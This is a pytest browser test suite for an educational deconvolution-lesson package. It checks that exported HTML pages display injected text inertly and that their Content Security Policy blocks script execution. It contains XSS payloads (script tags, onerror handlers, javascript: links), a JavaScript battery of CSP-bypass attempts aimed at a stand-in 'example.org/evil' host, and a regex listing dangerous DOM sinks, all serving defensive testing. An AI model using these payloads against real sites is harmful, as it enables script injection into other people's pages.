"""Text is shown as text, wherever it comes from and wherever it goes; and what is not text can do nothing there."""

import re
from html import unescape
from io import BytesIO
from xml.etree import ElementTree

import nbformat
import numpy as np
import pytest
from nbformat import v4
from page import cell, finish, numbers, own_policy, root

from deconv_helpers import before_after, conv_transpose2d, export, play, save_html, save_lesson
from deconv_helpers.page import STATIC, document
from deconv_helpers.words import WORDS
from lessons import build

DIGITS = [[1, 10], [100, 1000]]
HURT = "<script>window.hurt = 1</script><img src=x onerror='window.hurt = 1'>"
HOSTILE = (
    f"</title></script></style></textarea>{HURT}<!-- ]]> \" ' `code` & &lt; \\ \\1 \\g<0> $& $x$ $$ "
    "{title} {body} {script} {value} {text} {cell} {constructor} {__proto__} {0} %s "
    "\u2028\u2029\u202eright to left\u202c 👩‍🏫 步幅"
)
NAME = "<img src=x onerror='hurt=1'> \" & $x$ {name} \u202e 步"  # of a file and its folder


@pytest.fixture
def visit(chromium):
    """Open a file; what it asks of anyone, what it says to the console, and what its policy forbids is kept."""
    pages = []

    def open_file(path):
        page = chromium.new_page(viewport={"width": 1100, "height": 900})
        page.set_default_timeout(10_000)
        page.asked, page.said = [], []
        page.on("request", lambda request: page.asked.append(request))
        page.on("pageerror", lambda error: page.said.append(str(error)))
        page.on("console", lambda message: page.said.append(message.text))
        page.add_init_script(
            "window.forbidden = []; document.addEventListener('securitypolicyviolation', "
            "(event) => forbidden.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`))"
        )
        page.goto(path.as_uri())
        pages.append(page)
        return page

    yield open_file
    for page in pages:
        assert page.evaluate("window.hurt") is None
        foreign = [request for request in page.asked if not request.url.startswith(("file:", "data:", "blob:"))]
        assert {request.failure for request in foreign} <= {"csp"}  # stopped before it was sent
        page.close()


def is_quiet(page):
    """Whether nothing was forbidden to the page, and nothing said."""
    return (page.evaluate("forbidden"), page.said) == ([], [])


SETUP = f"""
from IPython.display import display
from deconv_helpers import *
from deconv_helpers.exercises.questions import Choice, Question
from deconv_helpers.quiz import Quiz
from deconv_helpers.table import Table

H = {HOSTILE!r}

class Answer:
    def table(self):
        return Table(H, ((H, "text"), ("n", "number")), [(H, H)], [H], 0)

    def _repr_html_(self):
        return self.table().html()

def choice(text, idea=None):
    return Choice((text, text), (H, H), idea)

def stamp(*_):
    raise ValueError(H.replace("`", ""))
"""
SHOWN = {  # what a notebook may show of such text, and where a page then has it
    "picture = play(conv_transpose2d, {H: [[1, 2], [3, 4]], 'b': [[1, 1], [1, 1]]}, [[1]], stride=range(1, 3))\n"
    "predict(H, {H: H, 'fine': 'Yes.'}, right='fine', reveal=picture)": [
        '.deconv-player [data-part="question"] p',
        '.deconv-player [data-part="reply"]',
        ".deconv-player option",
    ],
    "Quiz([Question((H, H), (choice('fine'), choice(H, 'idea')), 1)])": ['.deconv-quiz [data-part="question"]'],
    "browse(lambda **_: Answer(), **{H: [H, 'b']})": [
        f".deconv-browse {tag}" for tag in ("span", "option", "th", "td", "p")
    ],
    "Answer()": [f".deconv-table {tag}" for tag in ("b", "th", "td", "p")],
    "print(H)": [".output pre"],
    "display({'text/plain': H}, raw=True)": [".output pre"],
    "raise ValueError(H)": [".output pre"],
    "check(stamp, '02.stamp')": [],
    "check(1, H)": [],
    f"display({{'text/html': {HURT!r}}}, raw=True)": [],
    f"display({{'image/png': '\"' + {HURT!r}}}, raw=True)": [],
}  # fmt: skip


@pytest.fixture(scope="module")
def lesson(tmp_path_factory):
    """A notebook of such texts, of such a name, as a page."""
    folder = tmp_path_factory.mktemp("pages") / NAME
    folder.mkdir()
    prose = (
        f"# {HOSTILE}\n\n```mermaid\n{HURT}\n```\n\n"
        f"[a](javascript:window.hurt=1) [b](<{NAME}.ipynb>)\n\n$\\text{{{HURT}}}$"
    )
    cells = [v4.new_markdown_cell(prose), v4.new_code_cell(SETUP), *map(v4.new_code_cell, SHOWN)]
    for made in cells[2:]:
        made.metadata["tags"] = ["raises-exception"]
    nbformat.write(v4.new_notebook(cells=cells), folder / f"{NAME}.ipynb")
    return save_lesson(folder / f"{NAME}.ipynb", folder / f"{NAME}.html")


@pytest.mark.browser
def test_a_page_shows_what_a_notebook_says_as_it_is_and_lets_nothing_in_it_run(lesson, visit):
    page = visit(lesson)
    assert page.evaluate("document.title") == HOSTILE
    for option in (".deconv-player [data-option]", ".deconv-quiz [data-option='1']"):
        page.locator(option).first.click()
    for places in SHOWN.values():
        for place in places:
            assert HOSTILE in [text.rstrip("\n") for text in page.locator(place).all_text_contents()], place
    for place, text in (
        (".deconv-player [data-option]", f"A {HOSTILE}your answer"),
        ('.deconv-quiz [data-part="reply"]', HOSTILE + f"✓ fine · {HOSTILE}"),
        (".output pre", f"ValueError: {HOSTILE}"),
        ("pre", HURT),  # of what was to be drawn
        (".note", export.WORDS["en"]["python"].format(name=f"{NAME}.ipynb")),
    ):
        assert text in [found.strip("\n") for found in page.locator(place).all_text_contents()], place
    said = " ".join(page.locator(".deconv-check").all_text_contents()).replace("\u2029", "")
    assert HURT in said and HOSTILE.replace("`", "")[:150] in said
    sources = page.locator(".output img").evaluate_all("(images) => images.map((image) => image.getAttribute('src'))")
    assert f'data:image/png;base64,"{"".join(HURT.split())}' in sources
    page.locator("a", has_text="a").first.click()  # the link that would run something
    assert page.evaluate("forbidden.length") > 2 and page.evaluate("window.hurt") is None


@pytest.mark.browser
def test_a_page_that_the_browser_saves_of_it_is_quiet_and_as_true(lesson, visit, tmp_path):
    page = visit(lesson)
    player = root(page)
    player.locator("[data-option]").first.click()
    player.locator('[data-control="more"]').click()
    with page.expect_download() as download:
        player.locator('[data-control="save"]').click()
    download.value.save_as(tmp_path / "saved.html")
    own_policy((tmp_path / "saved.html").read_text(encoding="utf-8"))
    saved = visit(tmp_path / "saved.html")
    assert saved.evaluate("document.title") == HOSTILE
    assert HOSTILE in saved.locator('[data-part="question"] p').all_text_contents()
    loose = "[...document.body.childNodes].filter((node) => node.nodeType === 3).map((node) => node.textContent.trim())"
    assert {*saved.evaluate(loose)} == {""}  # nothing of the template is left between its parts
    finish(root(saved))
    assert numbers(root(saved)) == [[1, 2], [3, 4]] and is_quiet(saved)


# Everything that a page must not do, one after another; what was forbidden, by the name of the directive.
ATTACK = """() => new Promise((done, fail) => {
  const forbidden = new Set();
  const put = (tag, attributes, text = "") => {
    const node = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) node.setAttribute(name, value);
    node.textContent = text;
    document.body.append(node);
    return node;
  };
  const evil = "https://example.org/evil", script = "window.hurt = 1";
  const attacks = {
    "script-src-elem": () => {
      for (const type of ["", "module"]) put("script", { type }, script);
      for (const src of [evil, `data:text/javascript,${script}`]) put("script", { src });
      put("a", { href: `javascript:${script}` }).click();
    },
    "script-src-attr": () => put("button", { onclick: script }).click(),
    "script-src": () => setTimeout(() => { // at once it would be allowed, as to a debugger
      try { eval(script); } catch { try { new Function(script)(); } catch { } }
    }),
    "connect-src": () => fetch(evil).catch(() => {}),
    "img-src": () => put("img", { src: evil }),
    "media-src": () => put("video", { src: evil }),
    "object-src": () => put("object", { data: evil }),
    "frame-src": () => {
      put("iframe", { src: evil });
      put("iframe", { srcdoc: "<script>parent.hurt = 1</script>" });
    },
    "style-src-elem": () => put("link", { rel: "stylesheet", href: evil }),
    "font-src": () => put("style", {}, `@font-face { font-family: x; src: url(${evil}) } button { font-family: x }`),
    "worker-src": () => { try { new Worker(URL.createObjectURL(new Blob([script]))); } catch { } },
    "form-action": () => put("form", { action: evil }).submit(),
    "base-uri": () => put("base", { href: evil }),
  };
  document.addEventListener("securitypolicyviolation", (event) => {
    forbidden.add(event.effectiveDirective);
    if (Object.keys(attacks).every((name) => forbidden.has(name))) done(true);
  });
  for (const attack of Object.values(attacks)) attack();
  setTimeout(() => fail(Error(`allowed: ${Object.keys(attacks).filter((name) => !forbidden.has(name))}`)), 8000);
})"""


@pytest.mark.browser
def test_a_saved_page_forbids_all_but_its_own_scripts_and_these_need_no_more(visit, tmp_path):
    file = save_html(play(conv_transpose2d, [[1, 2], [3, 4]], DIGITS, stride=range(1, 3)), tmp_path / "x.html")
    own_policy(file.read_text(encoding="utf-8"))
    page = visit(file)
    player = root(page)
    finish(player)
    player.locator('[data-control="more"]').click()
    player.locator('[data-control="fullscreen"]').click()
    page.emulate_media(color_scheme="dark")
    cell(player, "input", 0, 0).dblclick()
    page.keyboard.type("7\n")
    assert numbers(player) == conv_transpose2d([[7, 2], [3, 4]], DIGITS).tolist() and is_quiet(page)
    assert page.evaluate(ATTACK)


@pytest.mark.browser
def test_what_is_typed_and_pasted_is_said_again_as_it_is(show):
    page = show(play(conv_transpose2d, [[1, 2], [3, 4]], DIGITS))
    player = root(page)
    cell(player, "input", 0, 0).dblclick()
    page.keyboard.insert_text(HOSTILE)
    page.keyboard.press("Enter")
    assert said(player) == plain(WORDS["en"]["not_a_number"].replace("{value}", "1").replace("{text}", HOSTILE))
    cell(player, "input", 0, 0).click()
    page.evaluate(
        """(text) => {
            const clipboardData = new DataTransfer();
            clipboardData.setData("text/plain", text);
            document.querySelector(".deconv-player").dispatchEvent(new ClipboardEvent("paste", { clipboardData }));
        }""",
        f"1\t{HOSTILE}",
    )
    assert said(player) == plain(WORDS["en"]["block_no_number"].replace("{text}", HOSTILE))
    assert page.evaluate("window.hurt") is None


def plain(text):
    """The text without the characters that only set directions: a sentence may keep those of a text to the text."""
    return re.sub("[\u2066-\u2069\u202a-\u202e]", "", text)


def said(player):
    return plain(player.locator('[data-part="refusal"]').text_content())


def test_no_script_writes_html():
    sinks = (
        r"\b(inner|outer)HTML\s*\+?=[^=]|insertAdjacentHTML|setHTML|document\.write|srcdoc|DOMParser|createContextual"
    )
    for path in STATIC.glob("*.js"):
        text = path.read_text(encoding="utf-8")
        assert not re.search(rf"{sinks}|\beval\(|\bFunction\(|setAttribute\(\"on|javascript:", text), path.name


@pytest.mark.parametrize("title", [HOSTILE, "{script}", "{body}{beside}", "\\1 \\g<0>", "$&"])
def test_a_title_is_no_template(title):
    text = document(title, "en", "<p>the body</p>")
    assert text.count("<p>the body</p>") == 1 and text.count('<script type="module">') == 1
    own_policy(text)
    assert [unescape(found) for found in re.findall("<title>(.*?)</title>", text)] == [title]


@pytest.mark.parametrize("title", ["$5 and $6", "$\\frac{$", "<b>&--]]>", "{x} %s \\", "\u202eabc"])
def test_a_photographs_title_is_no_formula_and_no_markup(title):
    figure = before_after(np.eye(4), np.eye(4), titles=(title, "y"))
    for kind in ("png", "svg", "pdf"):
        file = BytesIO()
        figure.savefig(file, format=kind)
        if kind == "svg":
            assert ElementTree.fromstring(file.getvalue()).tag.endswith("svg")
    assert title in [text.get_text() for text in figure.axes[0].texts if not text.get_parse_math()]


@pytest.mark.parametrize("title", [HURT, "a | b", "$x | y$", "{lessons} \\1 \\g<0>", "\u202eabc\u202c 👩‍🏫"])
def test_a_lessons_title_stays_in_its_cell_of_the_table(tmp_path, title):
    (tmp_path / "01_a.py").write_text(
        "\n\n".join(f'# %% [markdown] lang="{lang}"\n# # 1 · {title}\n#\n# {title}?' for lang in ("en", "zh")),
        encoding="utf-8",
    )
    prose = export._prose(tmp_path / "a.ipynb", tmp_path)
    table = prose(build.lessons_table("", tmp_path))
    assert table.count("<tr>") == 2 and table.count("<td") == 3
    (tmp_path / "en").mkdir()
    (tmp_path / "en/01_a.html").touch()
    assert '<a href="en/01_a.html">' in prose(build.lessons_table("", tmp_path))
